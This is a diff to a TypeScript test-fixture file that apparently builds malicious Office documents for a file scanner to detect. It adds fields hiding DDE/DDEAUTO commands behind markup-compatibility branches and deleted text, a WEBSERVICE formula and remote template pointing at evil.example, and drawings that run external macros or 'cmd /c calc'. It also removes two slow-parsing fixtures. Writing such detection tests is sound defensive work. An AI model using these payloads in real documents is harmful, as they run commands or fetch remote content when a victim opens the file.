@@ -7,6 +7,7 @@ const relations = (words: string | Buffer) =>
   docx({ more: [{ name: "word/_rels/footer1.xml.rels", bytes: words }] });
 const utf16 = (words: string) => Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(words, "utf16le")]);
 const template = `<Relationships><Relationship Id="r9" Type="${types}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
+const said = (name: string, words: string) => `<w:${name}>${words}</w:${name}>`;
 const runs = (...texts: string[]) =>
   `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${texts.map((words) => `<w:instrText>${words}</w:instrText>`).join("")}<w:fldChar w:fldCharType="end"/></w:document>`;
 const cell = (formula: string) =>
@@ -123,6 +124,35 @@ export const hiddenOffices: readonly BadFile[] = [
     part(svg, "word/media/image1.svg"),
     "file-active",
   ]),
+  ...[
+    ["in a branch that nobody reads", `<mc:Choice>${said("instrText", "x")}</mc:Choice>`],
+    ["ended in a branch that nobody reads", '<mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice>'],
+    ["in what was struck out", said("delInstrText", "x")],
+    ["in an instruction's own branch", "<w:instrText><mc:Choice>x</mc:Choice></w:instrText>"],
+  ].map(([where = "", decoy = ""], at): BadFile => [
+    `a field that is broken ${where}`,
+    `hidden-x${at}.docx`,
+    part(
+      `<w:ftr xmlns:w="w" xmlns:mc="mc"><w:fldChar w:fldCharType="begin"/>${said("instrText", "DDE")}${decoy}${said("instrText", "AUTO c")}<w:fldChar w:fldCharType="end"/></w:ftr>`,
+    ),
+    "file-active",
+  ]),
+  [
+    "a formula that is broken in a branch that nobody reads",
+    "hidden-o.xlsx",
+    cell('WEB<mc:Choice xmlns:mc="mc">x</mc:Choice>SERVICE("https://evil.example")'),
+    "file-active",
+  ],
+  ...[
+    `<xml xmlns:x="x"><x:FmlaMacro>'\\\\evil\[x.xlsm]'!run</x:FmlaMacro></xml>`,
+    `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp macro="[9]!run"/></xdr:wsDr>`,
+    `<xdr:wsDr xmlns:xdr="xdr"><xdr:sp textlink="cmd|'/c calc'!A0"/></xdr:wsDr>`,
+  ].map((drawing, at): BadFile => [
+    `a drawing that runs another file's macro, or another program (${at})`,
+    `hidden-n${at}.xlsx`,
+    xlsx({ more: [{ name: "xl/drawings/drawing1.xml", bytes: drawing }] }),
+    "file-active",
+  ]),
   [
     "a sheet with data connections",
     "hidden-p.xlsx",
@@ -155,23 +185,5 @@ export const hiddenOffices: readonly BadFile[] = [
     "hidden-w.docx",
     part(runs(" DDEAUTO x"), "word/media/image1.png"),
     "file-nested",
-  ],
-];
-
-/** Office documents made to be slow. */
-export const slowOffices: readonly BadFile[] = [
-  [
-    "a document of a field of blanks",
-    "slow-a.docx",
-    part(`<w:p xmlns:w="w"><w:instrText>${" ".repeat(400_000)}!</w:instrText></w:p><w:p/>`),
-    "file-damaged",
-  ],
-  [
-    "a document of a hundred thousand fields in each other",
-    "slow-b.docx",
-    part(
-      `<w:p xmlns:w="w">${'<w:fldChar w:fldCharType="begin"/><w:instrText> </w:instrText>'.repeat(30_000)}`,
-    ),
-    "file-unpacks-too-large",
   ],
 ];
